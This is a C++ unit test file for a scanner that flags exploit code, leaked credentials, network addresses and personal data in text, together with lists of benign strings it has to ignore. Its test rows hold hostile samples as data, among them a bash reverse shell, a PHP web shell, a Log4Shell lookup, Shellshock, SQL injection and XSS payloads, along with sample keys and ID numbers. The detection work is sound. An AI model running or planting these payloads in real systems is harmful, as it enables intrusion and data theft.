#include "gate/content_signs.h"

#include <doctest/doctest.h>

using namespace sluice;
using gate::signs_in;

namespace {
std::string kinds_in(std::string_view text) {
  std::string out;
  for (const auto& one : signs_in(text)) out += (out.empty() ? "" : " ") + one.kind + ":" + one.proposes + "@" + std::to_string(one.line);
  return out;
}
struct Row { const char* text; const char* signs; };
}  // namespace

TEST_CASE("likely exploit code, secrets, addresses and data of persons are found, with the line") {
  static constexpr Row kRows[] = {
      {"first\n-----BEGIN RSA PRIVATE KEY-----\nMIIE", "credential:leaked-data@2"},
      {"key AKIAIOSFODNN7EXAMPLE in the log", "credential:leaked-data@1"},
      {"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "credential:leaked-data@1"},
      {"password = \"tr0ub4dor&3\"", "credential:leaked-data@1"},
      {"api_key: 9f8a7b6c5d4e3f2a", "credential:leaked-data@1"},
      {"the host 10.20.30.40 answers", "network-address:network-detail@1"},
      {"from 8.8.4.4 to fe80:0:0:0:1:2:3:4", "network-address:network-detail@1 network-address:network-detail@1"},
      {"written by ana.lopez@acme.com", "personal-data:leaked-data@1"},
      {"card 4111 1111 1111 1111 was shown", "personal-data:leaked-data@1"},
      {"GET /?x=${jndi:ldap://evil/a}", "exploit-code:poc@1"},
      {"bash -i >& /dev/tcp/h/4444 0>&1", "exploit-code:exploit-tool@1"},
      {"buf = '\\x90\\x90\\x90\\x90\\x31\\xc0\\x50\\x68'", "exploit-code:poc@1"},
      {"a\nb\nfrom pwn import *", "exploit-code:poc@3"},
      {"buf = b'\\x90\\x90\\x31\\xc0'", "exploit-code:poc@1"},
      {"s.send(struct.pack('<I', 0xbffff5a0) + b'\\x41')", "exploit-code:poc@1"},
      {"name=' OR 1=1 --", "exploit-code:poc@1"},
      {"admin' or 1=1#", "exploit-code:poc@1"},
      {"id=' or '1'='1", "exploit-code:poc@1"},
      {"x'; DROP TABLE users", "exploit-code:poc@1"},
      {"git clone https://user:hunter2@host/", "credential:leaked-data@1"},
      {"postgres://app:s3cr3t-9@db.internal:5432/x", "credential:leaked-data@1"},
      {"it answers on fe80::1", "network-address:network-detail@1"},
      {"and on fd12:3456:789a::1.", "network-address:network-detail@1"},
      {"from 2001:470:1f0b::5 and 2606:4700:0:0:0:0:6810:84e5", "network-address:network-detail@1"},
      {"a\nit listens on 2606:4700::6810:84e5", "network-address:network-detail@2"},
      {"q=<script>alert(1)</script>", "exploit-code:poc@1"},
      {"<img src=x onerror=alert(1)>", "exploit-code:poc@1"},
      {"host=$(id)", "exploit-code:poc@1"},
      {"User-Agent: () { :;}; /bin/eject", "exploit-code:poc@1"},
      {"<?php system($_GET['c']); ?>", "exploit-code:exploit-tool@1"},
      {"pay to DE89 3704 0044 0532 0130 00", "personal-data:leaked-data@1"},
      {"pay to GB82WEST12345698765432, please", "personal-data:leaked-data@1"},
  };
  for (const auto& row : kRows) CHECK(kinds_in(row.text) == row.signs);
}

TEST_CASE("what is written about attacks every day is no sign") {
  static constexpr const char* kQuiet[] = {
      "", "A buffer overflow in the parser lets an attacker run code.", "Fixed in version 2.17.1.0.", "Upgrade to v10.2.3.4 of the firmware.", "All releases before 1.2.3.4 are affected.",
      "Use 192.0.2.7 or 2001:db8::1 in examples.", "It listens on 127.0.0.1 and 0.0.0.0.", "Write to security@acme.com or ana@example.org.", "pkg:npm/left-pad@1.3.0", "user@4.2",
      "password: <your password>", "password = changeme1", "The field password: required", "PASSWORD=${DB_PASSWORD1}", "reset your password", "CVE-2021-44228 and CVE-2021-45046", "call 4000 000 000",
      "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "2026-11-29T12:00:00Z", "12:34:56", "std::vector<int>", "1234567890123456", "the regex \\x41 matches A", "We used ysoserial to test.",
      "It takes \\x90\\x41 and \\x0d\\x0a\\x0d\\x0a as they are.", "struct.pack('<I', length) writes the length", "the parser takes 'a' or 1 = 1 as a condition", "either 'x' or 'y' = a value", "SELECT * FROM t WHERE a = 'b' OR c = 1",
      "WHERE 1=1", "drop table users;", "A <script> tag in a name is shown as it is; see document.write.", "alert(s) are raised", "12:34:56:78", "1::2", "$(identifier)", "078-05-1120", "440524198001010014", "https://host:8443/path@2", "https://user:password@host/", "https://user:pass@host/", "postgres://postgres:postgres@localhost/db", "ssh://git@host/repo", "http://user:<password>@host/", "http://trusted.host:80@other.host/",
      "at fe80::/10 and fd00::/8", "fd::", "The dead beef::cafe", "DE89 3704 0044 0532 0130 01", "DE12345678901234567890", "GB82WEST", "CVE20240001AB", "SELECT name FROM users", "The include path is /etc/passwd.d", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", "oid 1.3.6.1.4.1", "-----BEGIN PUBLIC KEY-----", "-----BEGIN PGP SIGNATURE-----",
  };
  for (const auto* text : kQuiet) CHECK_MESSAGE(kinds_in(text) == "", text);
}

TEST_CASE("telephone numbers are found as they are written in many places, and where") {
  static constexpr Row kRows[] = {
      {"call +49 30 1234567 now", "+49 30 1234567"}, {"+14155552671", "+14155552671"}, {"(+44) 20 7183 8750", "+44) 20 7183 8750"}, {"+49 (0)30 123456-78", "+49 (0)30 123456-78"}, {"tel:+8613812345678", "+8613812345678"},
      {"+33 1 42 68 53 00", "+33 1 42 68 53 00"}, {"+39 06 6982 1234", "+39 06 6982 1234"}, {"+7 495 123-45-67", "+7 495 123-45-67"}, {"+1 (212) 736-5000.", "+1 (212) 736-5000"}, {"+81-3-5561-3000,", "+81-3-5561-3000"},
      {"0049 30 1234567", "0049 30 1234567"}, {"at (212) 736-5000", "(212) 736-5000"}, {"at 212-736-5000", "212-736-5000"}, {"Tel.: 030 1234567", "030 1234567"}, {"phone 415-867 5309", "415-867 5309"},
      {"Telefon: 0171/1234567", "0171/1234567"}, {"IP phone number: 030 1234567", "030 1234567"}, {"his mobile phone 0171 1234567", "0171 1234567"}, {"+2147483699", "+2147483699"}, {"Phone number: 01632960961", "01632960961"}, {"Tel. 01.42.68.53.00", "01.42.68.53.00"}, {"电话：010-12345678", "010-12345678"}, {"手机13812345678", "13812345678"},
      {"+376812345", "+376812345"}, {"Tel: 0301234567890", "0301234567890"},
      {"fax = (030) 1234567", "(030) 1234567"}, {"téléphone 01 42 68 53 00", "01 42 68 53 00"}, {"Tel:0301234567", "0301234567"}, {"+86\xC2\xA0" "10\xC2\xA0" "1234\xC2\xA0" "5678", "+86\xC2\xA0" "10\xC2\xA0" "1234\xC2\xA0" "5678"},
  };
  for (const auto& row : kRows) {
    CAPTURE(row.text);
    const auto signs = signs_in(std::string("first line\n") + row.text);
    REQUIRE(signs.size() == 1);
    CHECK(signs[0].what == "a telephone number");
    CHECK(signs[0].kind == "personal-data");
    CHECK(signs[0].line == 2);
    CHECK((std::string("first line\n") + row.text).substr(std::size_t(signs[0].offset), std::size_t(signs[0].length)) == row.signs);
  }
}

TEST_CASE("a date beside a word for birth is found, in many languages' forms") {
  static constexpr Row kRows[] = {
      {"DOB: 1980-05-03", "1980-05-03"}, {"D.O.B. 03/05/1980", "03/05/1980"}, {"date of birth 3 May 1980", "3 May 1980"}, {"She was born on May 3rd, 1980 in Lyon", "May 3rd, 1980"}, {"born in Berlin on 3 May 1980", "3 May 1980"},
      {"Geburtsdatum: 03.05.1980", "03.05.1980"}, {"geb. 3.5.1980", "3.5.1980"}, {"geboren am 3. Mai 1980", "3. Mai 1980"}, {"née le 3 mai 1980", "3 mai 1980"}, {"fecha de nacimiento: 03-05-1980", "03-05-1980"},
      {"出生日期：1980年5月3日", "1980年5月3日"}, {"1980年5月3日出生", "1980年5月3日"}, {"1980年5月3日生", "1980年5月3日"}, {"生年月日 1980/05/03", "1980/05/03"}, {"1980-05-03 (date of birth)", "1980-05-03"}, {"\"dob\": \"19800503\"", "19800503"},
      {"birth_date=1980-05-03T00:00:00Z", "1980-05-03"}, {"1980年5月3日生まれ", "1980年5月3日"}, {"1980年5月3日生于上海", "1980年5月3日"}, {"他的生日 1980-05-03", "1980-05-03"}, {"生日：1980-05-03", "1980-05-03"}, {"1980年5月3日出生于上海", "1980年5月3日"},
  };
  for (const auto& row : kRows) {
    CAPTURE(row.text);
    const auto signs = signs_in(row.text);
    REQUIRE(signs.size() == 1);
    CHECK(signs[0].what == "a date of birth");
    CHECK(signs[0].proposes == "leaked-data");
    CHECK(std::string_view(row.text).substr(std::size_t(signs[0].offset), std::size_t(signs[0].length)) == row.signs);
  }
}

TEST_CASE("numbers of persons in a state's register are found where their form or a word beside them says so") {
  static constexpr Row kRows[] = {
      {"the record of 11010519491231002X leaked", "11010519491231002X"}, {"440524188001010014", ""}, {"440524198001010013", "440524198001010013"}, {"身份证号码：440524198001010013。", "440524198001010013"}, {"440524198001010014", ""}, {"440524198013010013", ""},
      {"SSN 078-05-1120", "078-05-1120"}, {"social security number: 219-09-9999", "219-09-9999"}, {"078-05-1120", ""}, {"SSN 666-05-1120", ""}, {"SSN 078-05-1120-7", ""}, {"ssn: 000-12-3456", ""}, {"x11010519491231002X", ""}, {"11010519491231002X1", ""},
  };
  for (const auto& row : kRows) {
    CAPTURE(row.text);
    const auto signs = signs_in(row.text);
    REQUIRE(signs.size() == (row.signs[0] == '\0' ? 0u : 1u));
    if (signs.empty()) continue;
    CHECK(signs[0].kind == "personal-data");
    CHECK(std::string_view(row.text).substr(std::size_t(signs[0].offset), std::size_t(signs[0].length)) == row.signs);
  }
}

TEST_CASE("numbers and dates that an advisory is full of are no data of persons") {
  static constexpr const char* kQuiet[] = {
      "CVE-2021-44228", "2.17.1", "10.0.19045.3693", "1.0.0+20240101120000", "v1.2.3-4567-8901", "2026-11-30T02:36:35+01:00", "2026-11-30 02:36:35 +0100", "20261130-023635", "1638316800", "1638316800000", "+1638316800", "UTC+01:00",
      "550e8400-e29b-41d4-a716-446655440000", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "sha1 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "KB5008380", "ports 1024-65535", "@@ -212,736 +500,1234 @@", "+12345678",
      "+37681234", "Tel: 03012345678901", "https://host.example/212-736-5000", "call (212) 555-0187", "Phone: 212-555-0142",
      "+20211130 lines", "+500 000 000 downloads", "+10 000 000 users", "ISBN 978-3-16-148410-0", "0000 1122 3344 5566 7788", "00 12 34 56 78 9a bc", "0049 3012 3456 7890", "phone 192.0.2.7", "phone firmware 12345678", "phone 10.0.19045.3693",
      "mobile app 4.12.1", "Phone: 2024-01-15", "+1 212 555 0123", "(212) 555-0187", "123-456-7890", "212-736-50001", "1-212-736-5000-1", "call 0x7fff12345678", "telephones 5", "hotel 1234567", "GHSA-jfh8-c2jp-5v3q", "RFC 5424, RFC 8446", "EUVD-2024-12345",
      "It was released on 2014-04-07.", "born 4.2.0", "the stubborn 2014-04-07 bug", "newborn 2014-04-07", "the birthday attack of 2016-08-24", "reborn on 2014-04-07", "airborne 03/05/2014", "1980年5月3日生产", "1980年5月3日", "may 3, 1980", "dob 99999999",
      "+2147483648", "+2147483647", "-1 or +4294967295", "wraps at +4294967296", "+281474976710656", "+999999999", "+987654321", "+1073741824 bytes", "the Cisco IP Phone 7811/7821", "IP Phone 7800 8800 firmware", "SIP-Phone: 8811-8821", "VoIP phone 123 4567", "smart phone 1234 5678",
      "発生日: 2021-05-03", "发生日 2021-05-03", "2021年5月3日生産", "2021年5月3日生日志", "2021年5月3日 生命周期结束", "2021年5月3日生活", "2020年1月1日出生率", "产生日 2021-05-03",
      "DOB: unknown, reported 2021-11-24 by mail", "date of birth is stored. Fixed 2021-12-10", "geb 12.34.5678", "born 2014-13-45",
  };
  for (const auto* text : kQuiet) CHECK_MESSAGE(kinds_in(text) == "", text);
}

TEST_CASE("a sign never repeats what it found, and a huge text has a bounded number of them") {
  for (const auto& one : signs_in("password = \"tr0ub4dor&3\"")) CHECK(one.what.find("tr0ub") == std::string::npos);
  std::string many;
  for (int i = 0; i < 5'000; ++i) many += "host 10.1." + std::to_string(i % 200) + "." + std::to_string(i % 250) + "\n";
  CHECK(signs_in(many).size() <= gate::kMostSigns);
  std::string dotted;
  for (int i = 0; i < 100'000; ++i) dotted += "a.";
  CHECK(signs_in(dotted).empty());
  std::string heads;
  for (int i = 0; i < 40'000; ++i) heads += "-----BEGIN ";
  CHECK(signs_in(heads).empty());
  const std::string nothing(1 << 20, '9');
  CHECK(signs_in(nothing).empty());
}
